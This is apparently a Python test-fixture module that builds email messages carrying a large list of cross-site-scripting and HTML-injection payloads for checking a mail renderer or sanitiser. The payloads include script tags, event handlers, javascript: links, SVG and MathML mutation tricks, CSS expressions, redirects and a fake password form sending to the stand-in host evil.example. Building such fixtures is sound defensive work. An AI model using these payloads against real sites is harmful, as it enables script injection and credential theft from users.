"""Messages that try to run a script, send something, or pretend to be the page around them.

Each payload calls `pwned()` or loads `evil.example`: whoever shows them looks for either.
"""

from __future__ import annotations

from base64 import encodebytes
from collections.abc import Iterator
from dataclasses import dataclass
from email.header import Header

MARK = "pwned"
CALL = f"{MARK}()"

_HTML = [
    # scripts
    "<script>{c}</script>", "<SCRIPT>{c}</SCRIPT>", "<script src=https://evil.example/x.js></script>",
    "<scr<script>ipt>{c}</scr</script>ipt>", "<script\x20type=module>{c}</script>", "<script/x>{c}</script>",
    "<<script>{c}//<</script>", "<script>{c}", "<svg><script>{c}</script></svg>",
    "<script xlink:href='data:,{c}'></script>", "<noscript><p title='</noscript><script>{c}</script>'>",
    "<textarea><script>{c}</script></textarea>", "<title><img src=x onerror={c}></title>",
    "<style><img src=x onerror={c}></style>", "<xmp><img src=x onerror={c}></xmp>",
    "<!--><script>{c}</script>-->", "<!--[if gte IE 4]><script>{c}</script><![endif]-->",
    "<![CDATA[<script>{c}</script>]]>", "<?xml version='1.0'?><script>{c}</script>",
    "<template><script>{c}</script></template>", "<script>{c}</script >", "<script\n>{c}</script\n>",
    # event handlers
    "<img src=x onerror={c}>", "<img src=x OnErRoR='{c}'>", "<img/src=x/onerror={c}>",
    "<body onload={c}>", "<p onclick={c}>x</p>", "<div onmouseover={c}>x</div>",
    "<a href=# onfocus={c} autofocus tabindex=1>x</a>", "<input autofocus onfocus={c}>",
    "<details open ontoggle={c}>x</details>", "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}></audio>", "<marquee onstart={c}>x</marquee>",
    "<select autofocus onfocus={c}></select>", "<keygen autofocus onfocus={c}>",
    "<img src='x' onerror\n=\n{c}>", "<img src=x onerror\x00={c}>", "<img src=`x`onerror={c}>",
    '<img alt="x\\"" src=x onerror={c}>', "<p style=animation-name:x onanimationstart={c}>x</p>",
    "<div onpointerrawupdate={c}>x</div>", "<button popovertarget=x onbeforetoggle={c}>x</button>",
    '<img title="a"onerror={c} src=x>', "<img src onerror=&#x70;wned()>", "<img on error=x onerror={c} src=q>",
    # links and addresses that run
    "<a href=javascript:{c}>x</a>", "<a href='JaVaScRiPt:{c}'>x</a>", "<a href=' javascript:{c}'>x</a>",
    "<a href='java&#x09;script:{c}'>x</a>", "<a href='java\nscript:{c}'>x</a>",
    "<a href='&#106;&#97;&#118;ascript:{c}'>x</a>", "<a href='javascript&colon;{c}'>x</a>",
    "<a href='\x01javascript:{c}'>x</a>", "<a href='data:text/html,<script>{c}</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+'>x</a>",
    "<a href='vbscript:{c}'>x</a>", "<a href='//evil.example/x'>x</a>", "<a href='/logout'>x</a>",
    "<a href='blob:https://evil.example/x'>x</a>", "<a href='feed:javascript:{c}'>x</a>",
    "<img src=javascript:{c}>", "<img src='data:image/svg+xml,<svg onload={c}>'>",
    "<img src='data:text/html,<script>{c}</script>'>", "<img srcset='https://evil.example/x 1x'>",
    "<img lowsrc=javascript:{c}>", "<img dynsrc=javascript:{c}>", "<area href=javascript:{c}>",
    # SVG and MathML
    "<svg onload={c}>", "<svg><a xlink:href=javascript:{c}><text y=9>x</text></a></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s></svg>", "<svg><set attributeName=href to=javascript:{c}>",
    "<svg><foreignObject><iframe srcdoc='<script>{c}</script>'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={c}>#x'/></svg>",
    "<svg><style><img src=x onerror={c}></style></svg>", "<math><maction actiontype=statusline xlink:href=javascript:{c}>x",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={c}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={c}>",
    "<svg></p><style><a id='</style><img src=1 onerror={c}>'>",
    # styles
    "<p style='width:expression({c})'>x</p>", "<p style='background:url(javascript:{c})'>x</p>",
    "<p style='background-image:url(https://evil.example/x)'>x</p>", "<p style='behavior:url(#x)'>x</p>",
    "<p style='-moz-binding:url(https://evil.example/x.xml)'>x</p>", "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<p style='wid\\74h:ex/**/pression({c})'>x</p>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9'>Log in anew</div>",
    "<style>*{{background:url(https://evil.example/x)}}</style>", "<p style='content:\"{c}\";color:url(https://evil.example/x)'>x</p>",
    # leading away, frames, forms, what sends
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<meta http-equiv=Set-Cookie content='bitrixmail=x'>", "<base href=https://evil.example/>",
    "<base href=javascript:/><a href=/{c}>x</a>", "<iframe src=javascript:{c}></iframe>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>", "<frameset onload={c}><frame src=x></frameset>",
    "<object data=javascript:{c}></object>", "<embed src=javascript:{c}>", "<applet code=x></applet>",
    "<form action=https://evil.example/><input name=password type=password><button>Log in</button></form>",
    "<form action=/users method=post><button>x</button></form>", "<button formaction=javascript:{c}>x</button>",
    "<isindex type=image src=1 onerror={c}>", "<a href=https://evil.example/ ping=https://evil.example/ping>x</a>",
    "<link rel=prefetch href=https://evil.example/>", "<portal src=https://evil.example/></portal>",
    "<a id=csrf name=csrf href=https://example.org/>x</a>", "<img name=body id=main src=https://evil.example/x.gif>",
    "</body></html><script>{c}</script>", "</iframe></pre></main><script>{c}</script>", "</textarea></title><img src=x onerror={c}>",
    "<dialog open><form method=dialog><button onclick={c}>x</button></form></dialog>",
    # encoded
    "&lt;script&gt;{c}&lt;/script&gt;", "%3Cscript%3E{c}%3C/script%3E", "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-", "<\u017fcript>{c}</\u017fcript>", "\ufeff<script>{c}</script>",
    "{{{{constructor.constructor('{c}')()}}}}", "{{% raw %}}<script>{c}</script>", "${{{c}}}",
]  # fmt: skip

# Where a sender writes what a page shows: names of header fields, and of files
TEXTS = [
    "<script>{c}</script>", '"><img src=x onerror={c}>', "'><svg onload={c}>", "</title><script>{c}</script>",
    "javascript:{c}", "{{{{7*7}}}}<b>{c}", "\u202e<script>{c}</script>", "a\u2028<script>{c}</script>",
    "--><script>{c}</script>", "../../etc/<img src=x onerror={c}>.html",
]  # fmt: skip


@dataclass(frozen=True)
class Injection:
    """A message; `html` is its page, `text` what stands in its header fields and file names."""

    name: str
    html: str
    text: str

    @property
    def octets(self) -> bytes:
        """The message with CRLF lines."""
        subject = Header(self.text, "utf-8").encode(linesep="\r\n")
        lines = [
            f"From: {Header(self.text, 'utf-8').encode()} <mallory@evil.example>",
            "To: <info@example.org>",
            f"Subject: {subject}",
            f"X-Raw: {self.text.encode('ascii', 'replace').decode()}",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="b"',
            "",
            "--b",
            "Content-Type: text/html; charset=utf-8",
            "Content-Transfer-Encoding: base64",
            "",
            encodebytes(self.html.encode()).decode(),
            "--b",
            "Content-Type: text/html",
            f"Content-Disposition: attachment; filename*=UTF-8''{_percent(self.text)}",
            "",
            f"<script>{CALL}</script>",
            "--b--",
            "",
        ]
        return "\r\n".join("\r\n".join(lines).splitlines()).encode() + b"\r\n"


def _percent(text: str) -> str:
    return "".join(f"%{octet:02X}" for octet in text.encode())


def injections() -> Iterator[Injection]:
    """Yield them: a page each, with the hostile texts in turn."""
    for number, html in enumerate(_HTML):
        text = TEXTS[number % len(TEXTS)].format(c=CALL)
        yield Injection(f"injection-{number:03}", html.format(c=CALL), text)
